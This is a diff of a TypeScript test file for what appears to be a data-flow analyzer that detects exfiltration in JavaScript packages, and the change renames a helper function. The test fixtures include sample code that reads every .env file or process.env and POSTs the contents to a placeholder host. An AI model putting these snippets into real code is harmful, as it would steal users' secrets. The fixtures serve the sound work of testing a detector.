@@ -8,7 +8,6 @@ const POST = `fetch('https://a.invalid', { method: 'POST', body: b })`;
 type Files = Readonly<Record<string, string | object>>;
 
 const lines = (files: Files): string[] => behaviourOf(files).effects.map(lineOf);
-const flows = (files: Files): string[] => behaviourOf(files).flows.map(flow => `${flow.from.api} → ${flow.to.api} as ${flow.as}`);
 
 describe('a class that others extend', () => {
   const base = `exports.Base = class { go() { const b = this.collect(); ${POST} } }`;
@@ -184,7 +183,7 @@ describe('what is found or copied first', () => {
     ));
   it('what goes through a function of the file for each that is found', () =>
     assert.ok(
-      flows({
+      flowLines({
         'index.js': `(async () => { const b = (await require('globby')('**/.env')).map(p => [p, require('fs').readFileSync(p)]); ${POST} })()`,
       }).includes('fs.readFileSync → fetch as content'),
     ));
@@ -217,7 +216,7 @@ describe('settings that another file brings', () => {
     ));
   it('a method that gives the object itself is followed by the next', () =>
     assert.deepEqual(
-      flows({
+      flowLines({
         'index.js': `const R = require('./r'); new R().about(process.env).send()`,
         'r.js': `module.exports = class { about(x) { this.x = x; return this; } send() { const b = this.x; ${POST} } }`,
       }),
